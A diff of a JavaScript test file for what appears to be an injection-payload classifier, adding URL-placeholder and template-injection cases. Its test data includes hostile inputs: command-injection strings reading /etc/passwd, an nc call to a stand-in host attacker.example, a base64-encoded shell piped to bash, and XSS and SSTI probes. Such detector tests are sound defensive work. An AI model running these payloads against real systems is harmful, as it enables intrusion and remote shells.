@@ -2380,4 +2380,7 @@ t.test('thirtieth round: a site\'s security policy as a setting, and the headers
   for (const p of ['<Import Project="$(MSBuildToolsPath)\\Microsoft.CSharp.targets" />', '<?import javafx.scene.layout.*?>', '{ok,S} -> {token,{symbol,L,S}};', '{error,Reason};']) t.same(q(p, 'snippet'), [], p)
   for (const p of ['<import namespace="t" implementation="#default#time2">', '<?import namespace="t" implementation="#default#time2">']) t.ok(q(p, 'snippet').includes('xss'), `still read: ${p}`)
   for (const p of [';{cat,/etc/passwd}', '{ls,-la}', ';{nc,attacker.example,4444}', '{echo,YmFzaCAtaSA}|{base64,-d}|bash']) t.ok(q(p, 'snippet').includes('rce'), `still read: ${p}`)
+  // an HTTP client's collection puts placeholders in a URL's fragment: `#{{…}}` is one opening, no polyglot
+  t.same(q('http://echo.example.com:9443/status/400/?query=string&a=b#{{search}}', 'url'), [], "a collection's URL with a placeholder in its fragment")
+  for (const p of ['#{{7*7}}', '<%=1%>#{2}{{a}}', '#{{a}}${b}']) t.ok(q(p, 'snippet').includes('ssti'), `still read: ${p}`)
 })
